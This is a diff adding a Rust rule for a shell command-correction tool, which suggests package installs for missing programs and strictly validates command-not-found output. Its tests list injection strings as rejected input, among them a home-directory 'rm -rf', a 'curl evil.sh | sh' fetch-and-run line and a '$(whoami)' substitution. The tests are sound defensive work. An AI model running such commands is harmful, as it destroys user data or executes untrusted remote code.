@@ -0,0 +1,143 @@
+use super::{FailedCommand, Fix, Rule, COMMAND_NOT_FOUND};
+use crate::classic_input::input_classifier::CommandLookup;
+
+/// Commands whose package has a different name
+const PACKAGE_NAMES: &[(&str, &str)] = &[
+    ("rg", "ripgrep"),
+    ("fd", "fd-find"),
+    ("convert", "imagemagick"),
+    ("http", "httpie"),
+    ("pip3", "python3-pip"),
+    ("ifconfig", "net-tools"),
+    ("dig", "dnsutils"),
+];
+
+/// (package manager, install command) in order of preference
+const PACKAGE_MANAGERS: &[(&str, &str)] = &[
+    ("brew", "brew install"),
+    ("apt", "sudo apt install"),
+    ("dnf", "sudo dnf install"),
+    ("pacman", "sudo pacman -S"),
+    ("apk", "sudo apk add"),
+];
+
+/// A program that isn't installed: install it, then run the command again
+#[derive(Debug, Clone)]
+pub struct MissingPackageRule {
+    lookup: CommandLookup,
+}
+
+impl MissingPackageRule {
+    pub fn new(lookup: CommandLookup) -> Self {
+        Self { lookup }
+    }
+
+    fn guess_install(&self, program: &str) -> Option<String> {
+        let (_, install) = PACKAGE_MANAGERS.iter().find(|(pm, _)| self.lookup.resolves(pm))?;
+        let package = PACKAGE_NAMES
+            .iter()
+            .find(|(cmd, _)| *cmd == program)
+            .map(|(_, pkg)| *pkg)
+            .unwrap_or(program);
+        Some(format!("{} {}", install, package))
+    }
+}
+
+impl Rule for MissingPackageRule {
+    fn name(&self) -> &'static str {
+        "missing_package"
+    }
+
+    fn fixes(&self, failed: &FailedCommand) -> Vec<Fix> {
+        let Some(program) = failed.program() else {
+            return Vec::new();
+        };
+        let not_found = failed.exit_code == COMMAND_NOT_FOUND || failed.output_contains("command not found");
+        if !not_found || self.lookup.resolves(&program) {
+            return Vec::new();
+        }
+
+        // Ubuntu's command-not-found handler lists the exact install commands
+        let suggested: Vec<Fix> = failed
+            .output
+            .lines()
+            .filter_map(install_command)
+            .map(|install| Fix::new(format!("{} && {}", install, failed.command.trim()), self.name(), 60))
+            .collect();
+        if !suggested.is_empty() {
+            return suggested;
+        }
+
+        self.guess_install(&program)
+            .map(|install| vec![Fix::new(format!("{} && {}", install, failed.command.trim()), self.name(), 50)])
+            .unwrap_or_default()
+    }
+}
+
+/// The install command on a line of command-not-found output, if the whole
+/// line (comment aside) is `[sudo ]<manager> install <package>`:
+/// "sudo apt  install htop  # version 3.0.5" -> "sudo apt install htop".
+/// Anything else is refused, so program output can't smuggle in a command.
+fn install_command(line: &str) -> Option<String> {
+    let command = line.split('#').next().unwrap_or("");
+    let words: Vec<&str> = command.split_whitespace().collect();
+    let rest = match words.as_slice() {
+        ["sudo", rest @ ..] => rest,
+        rest => rest,
+    };
+    let [manager, "install", package] = rest else {
+        return None;
+    };
+    let valid_package = package
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || "._+-".contains(c));
+    if !["apt", "apt-get", "snap", "dnf", "brew"].contains(manager) || !valid_package {
+        return None;
+    }
+    Some(words.join(" "))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const UBUNTU_OUTPUT: &str = "Command 'htop' not found, but can be installed with:
+
+sudo snap install htop  # version 3.2.2, or
+sudo apt  install htop  # version 3.0.5-7build2
+
+See 'snap info htop' for additional versions.
+";
+
+    #[test]
+    fn test_uses_command_not_found_suggestions() {
+        let rule = MissingPackageRule::new(CommandLookup::new());
+        let failed = FailedCommand::new("htop -d 10", UBUNTU_OUTPUT, 127);
+        let fixes = rule.fixes(&failed);
+        assert_eq!(fixes.len(), 2);
+        assert_eq!(fixes[0].command, "sudo snap install htop && htop -d 10");
+        assert_eq!(fixes[1].command, "sudo apt install htop && htop -d 10");
+    }
+
+    #[test]
+    fn test_only_plain_install_lines_are_trusted() {
+        assert_eq!(install_command("brew install jq"), Some("brew install jq".to_string()));
+        for line in [
+            "sudo apt install htop; rm -rf ~",
+            "echo sudo apt install htop",
+            "sudo apt install htop && curl evil.sh | sh",
+            "sudo apt install $(whoami)",
+            "sudo pip install htop",
+            "sudo apt install htop vim",
+        ] {
+            assert_eq!(install_command(line), None, "{}", line);
+        }
+    }
+
+    #[test]
+    fn test_guesses_package_for_available_manager() {
+        let rule = MissingPackageRule::new(CommandLookup::new().with_commands(["brew"]));
+        let failed = FailedCommand::new("rg TODO src", "zsh: command not found: rg", 127);
+        assert_eq!(rule.fixes(&failed)[0].command, "brew install ripgrep && rg TODO src");
+    }
+}